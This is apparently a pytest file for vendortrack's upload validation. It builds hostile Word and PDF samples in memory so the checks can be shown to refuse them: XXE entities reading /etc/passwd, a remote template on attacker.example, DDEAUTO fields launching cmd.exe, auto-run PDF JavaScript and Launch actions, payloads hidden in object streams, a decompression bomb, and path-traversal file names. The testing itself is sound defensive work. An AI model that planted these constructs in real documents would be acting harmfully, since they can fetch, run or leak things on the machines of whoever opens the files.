"""The checks every uploaded Word and PDF file goes through (vendortrack.uploads), on hostile
files built here in memory; the helpers that build them serve the upload tests of each feature.
"""

import io
import re
import zipfile
import zlib
from xml.sax.saxutils import escape, quoteattr

import docx
import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.addenda.test_builder import make_content
from vendortrack.config import Config, ConfigError, settings_from_environment
from vendortrack.documents.builder import build_addendum
from vendortrack.uploads import (
    UploadError,
    UploadLimits,
    check_docx,
    check_file_count,
    check_pdf,
    stored_name,
    upload_limits,
)

MB = 1024 * 1024
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"

# --- Word files, built in memory ------------------------------------------------------------


def word_file(text: str = "Hello") -> bytes:
    """A genuine .docx as Word's users send them (python-docx's template, one paragraph)."""
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezipped(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The same zip with some parts replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy,
    ):
        for name in source.namelist():
            if name not in parts:
                copy.writestr(name, source.read(name))
        for name, content in parts.items():
            copy.writestr(name, content)
    return out.getvalue()


def part_of(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def relationships(*rels: tuple[str, str, bool]) -> bytes:
    """A relationships part holding (type, target, external) relationships."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(rels, start=100)
    )
    head = f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELS}">'
    return f"{head}{items}</Relationships>".encode()


def with_relationship(data: bytes, kind: str, target: str, external: bool = False) -> bytes:
    """The document with one more relationship from its main part (word/document.xml)."""
    rels_name = "word/_rels/document.xml.rels"
    rels = part_of(data, rels_name)
    extra = relationships((kind, target, external)).split(b'">', 1)[1]
    extra = extra.removesuffix(b"</Relationships>")
    return rezipped(
        data, {rels_name: rels.replace(b"</Relationships>", extra + b"</Relationships>")}
    )


def remote_template(data: bytes, target: str = "https://attacker.example/t.dotm") -> bytes:
    """The document attached to a template that Word fetches when it opens the file."""
    rels = relationships((f"{OFFICE}/attachedTemplate", target, True))
    return rezipped(data, {"word/_rels/settings.xml.rels": rels})


def with_default_type(data: bytes, extension: str, content_type: str) -> bytes:
    types = part_of(data, "[Content_Types].xml").replace(
        b"<Default ",
        f'<Default Extension="{extension}" ContentType="{content_type}"/><Default '.encode(),
        1,
    )
    return rezipped(data, {"[Content_Types].xml": types})


def ole_object(data: bytes) -> bytes:
    """The document with an OLE object, as Word saves one (an old-style package in a .bin)."""
    data = with_default_type(data, "bin", "application/vnd.openxmlformats-officedocument.oleObject")
    data = rezipped(data, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)})
    return with_relationship(data, f"{OFFICE}/oleObject", "embeddings/oleObject1.bin")


def embedded_workbook(data: bytes) -> bytes:
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    data = with_default_type(data, "xlsx", sheet)
    data = rezipped(data, {"word/embeddings/Sheet1.xlsx": b"PK\x03\x04" + bytes(60)})
    return with_relationship(data, f"{OFFICE}/package", "embeddings/Sheet1.xlsx")


XXE_PROPERTIES = (
    b'<?xml version="1.0"?><!DOCTYPE Properties [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
    b' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
    b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Owner">'
    b"<vt:lpwstr>&xxe;</vt:lpwstr></property></Properties>"
)


def with_custom_properties(data: bytes, properties: bytes = XXE_PROPERTIES) -> bytes:
    """The document with docProps/custom.xml (as Word writes it, related from the package)."""
    rels = part_of(data, "_rels/.rels")
    extra = (
        f'<Relationship Id="rId90" Type="{OFFICE}/custom-properties" '
        'Target="docProps/custom.xml"/></Relationships>'
    ).encode()
    types = part_of(data, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/docProps/custom.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>',
    )
    return rezipped(
        data,
        {
            "_rels/.rels": rels.replace(b"</Relationships>", extra),
            "[Content_Types].xml": types,
            "docProps/custom.xml": properties,
        },
    )


def empty_paragraphs(count: int) -> bytes:
    """A .docx whose body holds `count` empty paragraphs: 7 million make 42 MB of XML, and the
    zip of it about 100 kB."""
    data = word_file()
    head, tail = part_of(data, "word/document.xml").split(b"<w:body>")
    body = head + b"<w:body>" + b"<w:p/>" * count + tail
    return rezipped(data, {"word/document.xml": body})


def complex_field(*pieces: str, result: str = "1") -> str:
    """A field as Word saves it: a begin mark, its instruction in one run per piece (Word
    splits it where the text was edited), a separate mark, the shown result, an end mark."""
    instruction = "".join(
        f'<w:r><w:instrText xml:space="preserve">{escape(piece)}</w:instrText></w:r>'
        for piece in pieces
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{instruction}'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def simple_field(instruction: str) -> str:
    return f"<w:fldSimple w:instr={quoteattr(instruction)}><w:r><w:t>1</w:t></w:r></w:fldSimple>"


def with_fields(data: bytes, *fields: str) -> bytes:
    """The document with a first paragraph holding these fields."""
    body = part_of(data, "word/document.xml")
    paragraph = f"<w:body><w:p>{''.join(fields)}</w:p>".encode()
    return rezipped(data, {"word/document.xml": body.replace(b"<w:body>", paragraph, 1)})


# Parts other than the body that hold text, and so fields: (name, root element, kind).
STORY_PARTS = {
    "header": ("word/header1.xml", "w:hdr", "header"),
    "footnotes": ("word/footnotes.xml", "w:footnotes", "footnotes"),
    "comments": ("word/comments.xml", "w:comments", "comments"),
}


def with_story_part(data: bytes, story: str, *fields: str) -> bytes:
    """The document with a header, footnotes or comments part (typed and related from the
    document, as Word saves it) whose paragraph holds these fields."""
    name, root, kind = STORY_PARTS[story]
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><{root} xmlns:w="{WORD}">'
        f"<w:p>{''.join(fields)}</w:p></{root}>"
    ).encode()
    types = part_of(data, "[Content_Types].xml").replace(
        b"</Types>",
        f'<Override PartName="/{name}" ContentType="{WORD_TYPE}.{kind}+xml"/></Types>'.encode(),
    )
    data = rezipped(data, {name: content, "[Content_Types].xml": types})
    return with_relationship(data, f"{OFFICE}/{kind}", name.removeprefix("word/"))


def part_names(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.namelist()


# --- PDF files, built in memory -------------------------------------------------------------


def pdf_file(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def action(kind: str, **entries) -> DictionaryObject:
    values = {NameObject("/S"): NameObject(kind)}
    values.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()})
    return DictionaryObject(values)


def open_action_javascript(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = action("/JavaScript", JS="app.alert(1)")


def launch_link(writer: PdfWriter) -> None:
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 100)]),
            NameObject("/A"): action("/Launch", F="cmd.exe"),
        }
    )
    writer.add_annotation(0, link)


def document_script(writer: PdfWriter) -> None:
    """A script in the document's name tree, which a reader runs when it opens the file."""
    script = action("/JavaScript", JS="app.alert(1)")
    scripts = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("s"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): scripts}
    )


def open_action_uri(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = action("/URI", URI="https://tracker.example")


def handmade_pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    """A one-page PDF written out by hand, for structures pypdf's writer will not make: the
    catalog (object 1) and the page (object 3) take these extra entries, and `more` are
    objects 4, 5 ..."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page + b" >>",
        *more,
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    return out + b"startxref\n%d\n%%%%EOF\n" % table


XFA_SCRIPT = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event '
    b'activity="docReady"><script contentType="application/x-javascript">app.alert(1)'
    b"</script></event></subform></template></xdp:xdp>"
)
XFA_STREAM = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(XFA_SCRIPT), XFA_SCRIPT)
SHOW_PAGE = b"/S /GoTo /D [3 0 R /Fit]"


def hidden_in_object_stream(
    data: bytes, objects: bytes = b"9 0 << /S /J#61vaScript /JS (app.alert(1)) >>"
) -> bytes:
    """The PDF with an update appending, compressed in an object stream nothing refers to,
    object 9: by default a JavaScript action whose name is written with an escape
    (/J#61vaScript). Only the raw bytes, once the stream is unpacked, tell."""
    packed = zlib.compress(objects)
    root = re.search(rb"/Root (\d+ \d+ R)", data).group(1)
    previous = re.findall(rb"startxref\s+(\d+)", data)[-1]
    offset = len(data)
    update = (
        b"8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )
    table = len(data) + len(update)
    update += b"xref\n8 1\n%010d 00000 n \ntrailer\n<< /Size 10 /Root %s /Prev %s >>\n" % (
        offset,
        root,
        previous,
    )
    return data + update + b"startxref\n%d\n%%%%EOF\n" % table


# --- Word files -----------------------------------------------------------------------------


def test_a_genuine_word_file_passes():
    check_docx(word_file())


def test_a_small_upload_holding_42_mb_of_empty_paragraphs_is_refused():
    hostile = empty_paragraphs(7_000_000)
    assert len(hostile) < 200_000

    with pytest.raises(UploadError, match=r"word/document\.xml unpacks to more than 5 MB"):
        check_docx(hostile)


def test_the_part_limit_is_a_setting():
    document = empty_paragraphs(300_000)  # 1.8 MB of XML

    check_docx(document)
    with pytest.raises(UploadError, match="more than 1 MB"):
        check_docx(document, UploadLimits(max_part_bytes=1 * MB))


def with_doctype(data: bytes, part: str, root: bytes) -> bytes:
    """The document with a DTD declared before the root element of one of its parts."""
    doctype = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return rezipped(data, {part: part_of(data, part).replace(root, doctype + root, 1)})


@pytest.mark.parametrize(
    ("make", "part"),
    [
        (with_custom_properties, "docProps/custom.xml"),
        (lambda d: with_doctype(d, "word/document.xml", b"<w:document"), "word/document.xml"),
        (lambda d: with_doctype(d, "[Content_Types].xml", b"<Types"), "[Content_Types].xml"),
        (lambda d: with_doctype(d, "word/_rels/document.xml.rels", b"<Relationships"), "rels"),
    ],
    ids=["properties", "document", "content types", "relationships"],
)
def test_a_part_that_declares_a_dtd_is_refused_naming_it(make, part):
    with pytest.raises(UploadError, match=r"declares a DTD") as refused:
        check_docx(make(word_file()))
    assert part in str(refused.value)


def test_an_undefined_entity_is_a_damaged_file_not_a_crash():
    data = word_file()
    body = part_of(data, "word/document.xml").replace(b"Hello", b"&xxe;")
    with pytest.raises(UploadError, match="cannot be opened"):
        check_docx(rezipped(data, {"word/document.xml": body}))


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (remote_template, r"attached to a template \(attachedTemplate: https://attacker"),
        (
            lambda d: remote_template(d, "file:///C:/Templates/Normal.dotm"),
            "attachedTemplate: file:///C:/Templates/Normal.dotm",
        ),
        (
            lambda d: with_relationship(d, f"{OFFICE}/image", "https://t.example/p.png", True),
            r"links to something outside the document \(https://t\.example/p\.png\)",
        ),
        (
            lambda d: with_relationship(d, f"{OFFICE}/hyperlink", "file://server/share", True),
            r"outside the document \(file://server/share\)",
        ),
        (ole_object, r"contains an OLE object \(word/embeddings/oleObject1\.bin\)"),
        (embedded_workbook, r"contains an embedded object \(word/embeddings/Sheet1\.xlsx\)"),
    ],
    ids=["remote template", "local template", "linked image", "file link", "OLE", "embedded"],
)
def test_a_word_file_that_would_fetch_or_run_something_is_refused_saying_what(make, message):
    with pytest.raises(UploadError, match=message):
        check_docx(make(word_file()))


@pytest.mark.parametrize(
    ("fields", "kind"),
    [
        ([simple_field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"')], "DDEAUTO"),
        ([simple_field(" ddeauto cmd.exe")], "DDEAUTO"),
        ([complex_field(" DD", 'E c:\\windows\\system32\\cmd.exe "/k calc.exe" ')], "DDE"),
        ([complex_field(' INCLUDEPICTURE "http://tracker.example/p.png" \\d ')], "INCLUDEPICTURE"),
        ([complex_field(' INCLUDETEXT "\\\\server\\share\\a.docx" ')], "INCLUDETEXT"),
        ([complex_field(' LINK Excel.Sheet.12 "\\\\server\\b.xlsx" "R1C1" \\a ')], "LINK"),
        ([complex_field(' IMPORT "http://tracker.example/p.png" ')], "IMPORT"),
        (
            [
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
                '<w:r><w:instrText xml:space="preserve"> IF 1 = 1 </w:instrText></w:r>',
                complex_field(' INCLUDETEXT "http://tracker.example/a.docx" '),
                '<w:r><w:instrText xml:space="preserve"> "a" "b" </w:instrText></w:r>',
                '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
            ],
            "INCLUDETEXT",
        ),
    ],
    ids=["DDEAUTO", "lower case", "split DDE", "picture", "text", "link", "import", "nested"],
)
def test_a_field_that_would_fetch_or_run_something_is_refused_naming_its_kind(fields, kind):
    with pytest.raises(UploadError) as refused:
        check_docx(with_fields(word_file(), *fields))
    assert str(refused.value) == (
        f"This document holds a field of type {kind}, which would fetch or run something when it "
        "is opened; remove the field and upload the file again."
    )


@pytest.mark.parametrize("story", STORY_PARTS)
def test_such_a_field_in_a_header_footnote_or_comment_is_refused_too(story):
    field = complex_field(' INCLUDEPICTURE "http://tracker.example/p.png" \\d ')
    with pytest.raises(UploadError, match="holds a field of type INCLUDEPICTURE,"):
        check_docx(with_story_part(word_file(), story, field))


def test_ordinary_fields_pass():
    fields = [
        complex_field(" PAGE "),
        complex_field(" NUM", "PAGES "),
        simple_field('HYPERLINK "https://example.org/DDEAUTO"'),
        complex_field(' DATE \\@ "d MMMM yyyy" '),
        complex_field(' TOC \\o "1-3" \\h '),
        simple_field("REF link_to_import \\h"),
    ]
    check_docx(with_fields(word_file(), *fields))
    check_docx(with_story_part(word_file(), "header", *fields))


def test_an_addendum_vendortrack_generates_passes_with_its_page_number_fields():
    addendum = build_addendum(make_content(), "bilingual")
    footers = [name for name in part_names(addendum) if name.startswith("word/footer")]
    assert any(b"NUMPAGES" in part_of(addendum, name) for name in footers)

    check_docx(addendum)


def test_a_link_to_a_web_page_is_not_something_word_fetches():
    check_docx(with_relationship(word_file(), f"{OFFICE}/hyperlink", "https://example.org", True))


def test_a_word_file_without_its_main_document_cannot_be_opened():
    data = word_file()
    rels = part_of(data, "_rels/.rels").replace(b"word/document.xml", b"word/missing.xml")
    with pytest.raises(UploadError, match="cannot be opened"):
        check_docx(rezipped(data, {"_rels/.rels": rels}))


# --- PDF files ------------------------------------------------------------------------------


def test_a_plain_pdf_with_a_web_link_and_an_opening_page_passes():
    def dress(writer):
        writer.add_annotation(0, Link(rect=(0, 0, 100, 100), url="https://example.org"))
        writer.open_destination = writer.pages[0]

    check_pdf(pdf_file(dress))


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda: pdf_file(open_action_javascript), "contains JavaScript"),
        (lambda: pdf_file(document_script), "contains JavaScript"),
        (lambda: pdf_file(launch_link), "launch a program"),
        (lambda: pdf_file(open_action_uri), "does something as soon as it is opened"),
        (lambda: hidden_in_object_stream(pdf_file()), "contains JavaScript"),
    ],
    ids=["open action", "document script", "launch link", "open action uri", "object stream"],
)
def test_a_pdf_that_runs_something_is_refused_saying_what(make, message):
    with pytest.raises(UploadError, match=message):
        check_pdf(make())


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (
            lambda: handmade_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", XFA_STREAM),
            "XFA form",
        ),
        (
            lambda: handmade_pdf(
                b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", b"", XFA_STREAM
            ),
            "XFA form",
        ),
        (
            lambda: handmade_pdf(page=b"/AA << /O << /S /URI /URI (https://tracker.example) >> >>"),
            "does something by itself",
        ),
        (
            lambda: handmade_pdf(
                page=b"/AA << /O << /S /SubmitForm /F << /FS /URL /F (https://t.example) >> >> >>"
            ),
            "does something by itself",
        ),
        (
            lambda: handmade_pdf(b"/AA << /WC << /S /ImportData /F (data.fdf) >> >>"),
            "does something by itself",
        ),
        (
            lambda: handmade_pdf(
                b"",
                b"/Annots [4 0 R]",
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /AA << /E << /S /URI "
                b"/URI (https://tracker.example) >> >> >>",
            ),
            "does something by itself",
        ),
        (
            lambda: handmade_pdf(
                page=b"/AA << /O << %s /Next << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >> >>"
                % SHOW_PAGE
            ),
            "does something by itself",
        ),
        (
            lambda: handmade_pdf(
                b"/OpenAction << %s /Next << /S /URI /URI (https://tracker.example) >> >>"
                % SHOW_PAGE
            ),
            "does something as soon as it is opened",
        ),
        (
            lambda: handmade_pdf(
                b"/OpenAction << %s /Next [<< %s >> << /S /Rendition >>] >>"
                % (SHOW_PAGE, SHOW_PAGE)
            ),
            "does something as soon as it is opened",
        ),
        (
            lambda: handmade_pdf(
                b"/OpenAction 4 0 R",
                b"",
                b"<< %s /Next 5 0 R >>" % SHOW_PAGE,
                b"<< /S /Launch /F (cmd.exe) /Next 4 0 R >>",
            ),
            "launch a program",
        ),
        (
            lambda: handmade_pdf(
                b"/OpenAction 4 0 R",
                b"",
                b"<< %s /Next 5 0 R >>" % SHOW_PAGE,
                b"<< /S /SubmitForm /F (https://t.example) /Next [4 0 R 5 0 R] >>",
            ),
            "does something as soon as it is opened",
        ),
        (
            lambda: hidden_in_object_stream(pdf_file(), b"9 0 << /A#41 << /O << /S /URI >> >> >>"),
            "does something by itself",
        ),
        (
            lambda: hidden_in_object_stream(pdf_file(), b"9 0 << /XF#41 10 0 R >>"),
            "XFA form",
        ),
    ],
    ids=[
        "XFA",
        "XFA packets",
        "page opens a web address",
        "page submits a form",
        "document imports data",
        "annotation comes into view",
        "page then opens another file",
        "open then web address",
        "open then rendition, array",
        "open then launch, cycle",
        "open then submit, cycle",
        "hidden AA",
        "hidden XFA",
    ],
)
def test_a_pdf_that_acts_by_itself_is_refused_saying_how(make, message):
    with pytest.raises(UploadError, match=message):
        check_pdf(make())


def test_a_pdf_whose_automatic_actions_only_show_pages_passes_even_in_a_cycle():
    check_pdf(
        handmade_pdf(
            b"/OpenAction 4 0 R",
            b"/AA << /O 4 0 R /C << %s /Next [4 0 R] >> >>" % SHOW_PAGE,
            b"<< %s /Next 5 0 R >>" % SHOW_PAGE,
            b"<< %s /Next [4 0 R 5 0 R] >>" % SHOW_PAGE,
        )
    )


def test_a_link_a_person_clicks_may_open_a_web_address_or_submit_a_form():
    # Like a hyperlink in Word: the reader acts only when the person clicks, and asks first.
    check_pdf(
        handmade_pdf(
            b"",
            b"/Annots [4 0 R 5 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://e.org) "
            b"/Next << /S /URI /URI (https://e.org/2) >> >> >>",
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [9 9 20 20] "
            b"/A << /S /SubmitForm /F (https://e.org/form) >> >>",
        )
    )


# --- names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\evil.pdf", "evil.pdf"),
        ("C:\\Users\\ana\\report.pdf", "report.pdf"),
        ("/var/tmp/scan.pdf", "scan.pdf"),  # noqa: S108 - a name as a browser sends it
        ("reports/../x/\x00a\x1bb.pdf", "ab.pdf"),
        ("scan\u202efdp.exe", "scanfdp.exe"),  # a right-to-left override would show exe.pdf
        ("..", "file"),
        ("../", "file"),
        ("  report.pdf ", "report.pdf"),
        ("a" * 300 + ".pdf", "a" * 251 + ".pdf"),
    ],
)
def test_only_the_base_name_of_an_upload_is_kept(sent, kept):
    assert stored_name(sent) == kept


# --- limits and their settings --------------------------------------------------------------


def test_more_files_than_the_setting_allows_are_refused():
    check_file_count(10, UploadLimits(max_files=10))
    with pytest.raises(UploadError, match="at most 10 files"):
        check_file_count(11, UploadLimits(max_files=10))


def test_the_upload_settings_default_to_5_mb_a_part_and_10_files():
    assert upload_limits(vars(Config)) == UploadLimits(max_part_bytes=5 * MB, max_files=10)


def test_the_upload_settings_come_from_the_environment(monkeypatch):
    monkeypatch.setenv("VENDORTRACK_UPLOAD_MAX_PART_MB", "2")
    monkeypatch.setenv("VENDORTRACK_UPLOAD_MAX_FILES", "4")
    read = settings_from_environment()
    assert upload_limits(read) == UploadLimits(max_part_bytes=2 * MB, max_files=4)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("UPLOAD_MAX_PART_MB", "five"),
        ("UPLOAD_MAX_PART_MB", "0"),
        ("UPLOAD_MAX_PART_MB", "2.5"),
        ("UPLOAD_MAX_PART_MB", "51"),
        ("UPLOAD_MAX_FILES", "-1"),
        ("UPLOAD_MAX_FILES", ""),
        ("UPLOAD_MAX_FILES", "１０"),  # full-width digits
    ],
)
def test_a_bad_upload_setting_is_refused_naming_its_variable(key, value):
    with pytest.raises(ConfigError, match=f"VENDORTRACK_{key}="):
        upload_limits({key: value})


def test_a_bad_upload_setting_in_the_environment_stops_the_start(monkeypatch):
    monkeypatch.setenv("VENDORTRACK_UPLOAD_MAX_PART_MB", "5MB")
    with pytest.raises(ConfigError, match="VENDORTRACK_UPLOAD_MAX_PART_MB='5MB'"):
        settings_from_environment()
